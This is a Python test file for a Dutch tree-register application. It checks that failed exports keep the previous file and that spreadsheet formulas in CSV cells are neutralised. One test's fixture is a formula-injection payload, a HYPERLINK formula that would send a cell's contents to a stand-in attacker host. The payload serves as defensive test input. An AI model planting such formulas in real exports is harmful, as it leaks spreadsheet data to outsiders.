"""Exports replace the previous file only when they finish, and neutralise spreadsheet formulas
(OWASP "CSV Injection": cells starting with = + - @ tab or CR are prefixed with a quote)."""

from __future__ import annotations

import csv
from datetime import date

import pytest
from complaint_fakes import fake_complaint_uow

from bomenplan.domain.complaints import Channel, Complaint, ComplaintCategory
from bomenplan.services import complaints
from bomenplan.services.complaint_export import export_complaints_csv
from bomenplan.services.csv_output import write_csv
from bomenplan.services.exporting import _write_csv
from bomenplan.services.safe_files import replacing_text, spreadsheet_cell


class Exploding:
    def __str__(self):
        raise RuntimeError("schijf vol")


def test_a_csv_export_that_fails_midway_leaves_the_old_file_and_no_temporary_file(tmp_path):
    target = tmp_path / "bomen.csv"
    target.write_text("oude export\n", encoding="utf-8")
    rows = [("ASN-1", 1.0)] * 1000 + [(Exploding(), 2.0)]
    with pytest.raises(RuntimeError):
        write_csv(target, ("boomnummer", "x"), rows)
    assert target.read_text(encoding="utf-8") == "oude export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["bomen.csv"]


def test_the_register_csv_export_failing_midway_keeps_the_previous_file(tmp_path):
    target = tmp_path / "register.csv"
    target.write_text("vorige\n", encoding="utf-8")
    with pytest.raises(RuntimeError):
        _write_csv(target, ["boomnummer", "x"], [("A", 1.0), (Exploding(), 2.0)], excel=True)
    assert target.read_text(encoding="utf-8") == "vorige\n"
    assert len(list(tmp_path.iterdir())) == 1


def test_a_finished_export_replaces_the_file(tmp_path):
    target = tmp_path / "uit.csv"
    target.write_text("vorige\n", encoding="utf-8")
    with replacing_text(target) as handle:
        handle.write("nieuw\n")
    assert target.read_text(encoding="utf-8") == "nieuw\n"
    assert len(list(tmp_path.iterdir())) == 1


def test_the_gaps_geopackage_export_failing_midway_keeps_the_previous_file(tmp_path, monkeypatch):
    import pyogrio

    from bomenplan.services import lanen_export
    from bomenplan.services.lanen import LanenReport

    target = tmp_path / "gaten.gpkg"
    target.write_bytes(b"vorige geopackage")

    def half_written(table, path, **kw):
        with open(path, "wb") as f:
            f.write(b"half")
        raise OSError("schijf vol")

    monkeypatch.setattr(pyogrio, "write_arrow", half_written)
    monkeypatch.setattr(lanen_export, "gap_rows", lambda report: [])
    with pytest.raises(OSError):
        lanen_export.export_gaps(LanenReport(lanen=[], analysis=None), target)
    assert target.read_bytes() == b"vorige geopackage"
    assert len(list(tmp_path.iterdir())) == 1


@pytest.mark.parametrize(("value", "expected"), [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+31 6", "'+31 6"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Kerkstraat", "Kerkstraat"), ("", ""), (-3.5, -3.5), (-7, -7), (None, "")])
def test_text_cells_are_neutralised_numbers_are_not(value, expected):
    assert spreadsheet_cell(value) == expected


def test_a_citizens_hyperlink_formula_in_the_complaint_csv_is_neutralised(tmp_path):
    uow = fake_complaint_uow()
    uow.triage_log.latest_decisions = lambda: {}  # not yet triaged
    text = '=HYPERLINK("http://kwaad.example/x?d="&A1,"Klik hier")'
    complaints.register_complaint(uow, Complaint(
        id=None, datum=date(2026, 3, 1), kanaal=Channel.WEBSITE,
        categories=(ComplaintCategory.SCHADUW,), tekst=text))
    target = tmp_path / "meldingen.csv"
    export_complaints_csv(uow, target)
    with target.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["tekst"] == "'" + text
    assert rows[0]["id"] == "1"  # numbers are written as they are


def test_excel_register_export_keeps_negative_numbers_and_quotes_text(tmp_path):
    target = tmp_path / "register.csv"
    _write_csv(target, ["straat", "x"], [("-Kerkstraat", -3.5), ("@Markt", 12.25)], excel=True)
    with target.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    assert rows[1:] == [["'-Kerkstraat", "-3,5"], ["'@Markt", "12,25"]]


def test_an_exported_formula_guard_is_removed_again_on_import(tmp_path):
    from bomenplan.services.importing.source import read_source

    target = tmp_path / "bomen.csv"
    write_csv(target, ("boomnummer", "straat"),
              [("A1", "=SOM(A1)"), ("A2", "-Kerkstraat"), ("A3", "'t Hoge Veld"), ("A4", "@markt")])
    assert target.read_text(encoding="utf-8").splitlines()[1] == "A1,'=SOM(A1)"
    source = read_source(target)
    assert source.column("straat").to_pylist() == ["=SOM(A1)", "-Kerkstraat", "'t Hoge Veld",
                                                    "@markt"]
